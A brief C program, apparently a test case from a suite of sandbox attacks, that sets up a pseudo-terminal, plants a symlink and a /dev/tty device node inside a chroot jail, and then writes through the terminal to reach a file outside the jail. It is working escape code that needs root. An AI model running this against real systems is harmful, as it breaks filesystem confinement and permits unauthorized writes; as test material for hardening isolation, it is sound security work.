/* In a root of its own, the name of its terminal is a link that means a file outside to everybody else. Needs: root. */
#include "../attack.h"
static int own_terminal(void)
{
	int number = -1, unlocked = 0, master = open("/dev/ptmx", O_RDWR | O_NOCTTY);
	if (master < 0 || ioctl(master, TIOCSPTLCK, &unlocked) < 0 || ioctl(master, TIOCGPTN, &number) < 0)
		exit(1);
	char name[32];
	snprintf(name, sizeof name, "/dev/pts/%d", number);
	setsid();
	int slave = open(name, O_RDWR);
	if (slave < 0 || ioctl(slave, TIOCSCTTY, 0) < 0)
		exit(1);
	return number;
}
int main(void)
{
	char name[64];
	if (fork() > 0)
		return wait(NULL), 0;
	const char *outside = outside_file();
	snprintf(name, sizeof name, "jail/dev/pts/%d", own_terminal());
	mkdir("jail", 0700), mkdir("jail/dev", 0700), mkdir("jail/dev/pts", 0700);
	if (symlink(outside, name) < 0 || mknod("jail/dev/tty", S_IFCHR | 0666, 5 << 8) < 0)
		return 1;
	change(open(outside, O_WRONLY | O_APPEND)); /* what works bare */
	if (chroot("jail") < 0)
		return 1;
	return change(open("/dev/tty", O_WRONLY | O_APPEND));
}
